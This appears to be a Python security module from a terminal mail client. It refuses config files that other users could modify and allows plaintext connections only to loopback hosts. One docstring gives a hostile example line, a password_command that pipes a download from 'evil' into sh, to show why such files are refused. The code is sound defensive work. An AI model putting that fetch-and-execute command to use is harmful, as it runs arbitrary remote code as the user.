"""What mailtui must check before it trusts a config file or a plaintext host.

- A config file someone else can change is refused: its password_command runs as you.
- security = "none" sends the password and mail in clear, so only to this machine: a
  loopback literal, or the name "localhost" once every address it resolves to is
  loopback (checked when connecting, not when reading the config).
"""

from __future__ import annotations

import ipaddress
import os
import socket
import stat

from mailtui.errors import ConfigError

__all__ = ["is_loopback", "loopback_problem", "may_be_loopback", "refuse_untrusted_file"]


def refuse_untrusted_file(label: str, st: os.stat_result) -> None:
    """A config someone else can change is refused: its password_command runs as you.

    Checked on the opened file (fstat), so what is checked is what is read. Owned by
    another user, or writable by group or others, it could be edited into
    `password_command = "curl evil | sh"` (aerc and OpenSSH refuse such files too).
    """
    if os.name != "posix":
        return
    mode = stat.S_IMODE(st.st_mode)
    me = os.geteuid()
    if st.st_uid != me:
        raise ConfigError(
            f"{label}: is owned by another user (uid {st.st_uid}, you are {me}), who could "
            "change its commands (password_command) to run anything as you; refusing it",
            hint=f"if the file is yours, run `chown {me} {label} && chmod 600 {label}`; "
            "else copy it to a file of your own",
        )
    if mode & 0o022:
        who = (
            "group and others"
            if mode & 0o022 == 0o022
            else ("its group" if mode & 0o020 else "others")
        )
        raise ConfigError(
            f"{label}: is writable by {who} (mode {mode:03o}), who could change its "
            "commands (password_command) to run anything as you; refusing it",
            hint=f"run `chmod 600 {label}`",
        )


def _loopback_ip(text: str) -> bool | None:
    """True/False for an IP literal (IPv4-mapped ::ffff:127.x counts), None for a name."""
    try:
        ip = ipaddress.ip_address(text.partition("%")[0])  # fe80::1%eth0: drop the zone
    except ValueError:
        return None
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        return ip.ipv4_mapped.is_loopback
    return ip.is_loopback


def _bare_host(host: str) -> str:
    h = host.strip()
    return h[1:-1] if h.startswith("[") and h.endswith("]") else h


def may_be_loopback(host: str) -> bool:
    """Config-time check, without DNS: a loopback literal, or the name "localhost"
    (whose addresses `loopback_problem` checks when connecting)."""
    h = _bare_host(host)
    return bool(_loopback_ip(h)) or h.lower().rstrip(".") == "localhost"


def loopback_problem(host: str) -> str:
    """Why plaintext to `host` would leave this machine ("" when it would not).

    Called when connecting: a loopback literal is fine; the name "localhost" is only a
    promise (/etc/hosts or a resolver can point it anywhere), so it is resolved and
    every address must be loopback. Any other name is refused without a lookup.
    """
    h = _bare_host(host)
    literal = _loopback_ip(h)
    if literal is not None:
        return "" if literal else f"{h} is not a loopback address"
    if h.lower().rstrip(".") != "localhost":
        return f"{h} is a host name, not a loopback address (127.0.0.1, ::1)"
    try:
        infos = socket.getaddrinfo(h, None, type=socket.SOCK_STREAM)
    except (OSError, UnicodeError) as exc:
        return f"{h} cannot be resolved ({getattr(exc, 'strerror', None) or exc})"
    outside = sorted({str(info[4][0]) for info in infos if not _loopback_ip(str(info[4][0]))})
    if not infos or outside:
        return f"{h} resolves to {', '.join(outside) or 'nothing'}, not only to loopback"
    return ""


def is_loopback(host: str) -> bool:
    """True when plaintext to `host` stays on this machine; see `loopback_problem`."""
    return not loopback_problem(host)
